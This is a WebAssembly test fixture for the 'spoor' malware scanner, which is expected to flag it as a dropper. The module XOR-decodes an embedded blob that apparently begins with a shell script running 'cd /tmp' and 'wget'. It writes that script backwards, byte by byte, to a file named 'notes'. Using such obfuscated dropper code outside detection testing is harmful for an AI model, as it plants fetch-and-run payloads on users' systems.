;; RUN: spoor run %
;; WHAT: Decodes a script and writes it byte by byte, the last byte first, under a name that says nothing; no
;;   call shows what it is.
;; EXPECT: verdict=POTENTIALLY_UNWANTED|SUSPICIOUS rule=load-code/dropper family=dropper status=exited file=/home/user/notes:created
(module
  (import "wasi_snapshot_preview1" "path_open" (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_pwrite" (func $fd_pwrite (param i32 i32 i32 i64 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_close" (func $fd_close (param i32) (result i32)))
  (memory (export "memory") 1)
  (data (i32.const 1024) "home/user/notes")
  (data (i32.const 2048) "\12\19\10\24\24\3a\74\11\01\7a\14\1a\a5\a3\e7\f7\d1\a2\d8\d1\d8\b0\eb\ff\a8\c0\8f\9a\81\8c\39\25\3e\29\26\14\03\04\15\70\67\67\78\36\00\00\03\1f\f3\a8\a2\d9\bd\cc\ce\de\c9\a5\b5\ee\f3\fa\c3\89\99\95\90\62\2d\3f\63\02\41\55\5b\4e\20\3e\73\7c\47\48\41\59\15\e1\e7\e2\fc\d2\87\88\bf")
  (func $decode (param $at i32) (param $len i32) (local $i i32)
    (loop $byte
      (i32.store8 (i32.add (local.get $at) (local.get $i))
        (i32.xor
          (i32.load8_u (i32.add (local.get $at) (local.get $i)))
          (i32.add (i32.const 0x31) (i32.mul (local.get $i) (i32.const 7)))))
      (br_if $byte
        (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (local.get $len)))))
  (func $open (param $path i32) (param $len i32) (param $flags i32) (result i32)
    (drop (call $path_open (i32.const 3) (i32.const 1) (local.get $path) (local.get $len) (local.get $flags)
      (i64.const 0x46) (i64.const 0) (i32.const 0) (i32.const 12)))
    (i32.load (i32.const 12)))
  ;; From the end to the begin.
  (func $write (param $fd i32) (param $at i32) (param $len i32)
    (i32.store (i32.const 4) (i32.const 1))
    (loop $byte
      (local.set $len (i32.sub (local.get $len) (i32.const 1)))
      (i32.store (i32.const 0) (i32.add (local.get $at) (local.get $len)))
      (drop (call $fd_pwrite (local.get $fd) (i32.const 0) (i32.const 1)
        (i64.extend_i32_u (local.get $len)) (i32.const 8)))
      (br_if $byte (local.get $len))))
  (func (export "_start") (local $fd i32)
    (call $decode (i32.const 2048) (i32.const 93))
    (local.set $fd (call $open (i32.const 1024) (i32.const 15) (i32.const 1)))
    (call $write (local.get $fd) (i32.const 2048) (i32.const 93))
    (drop (call $fd_close (local.get $fd)))))
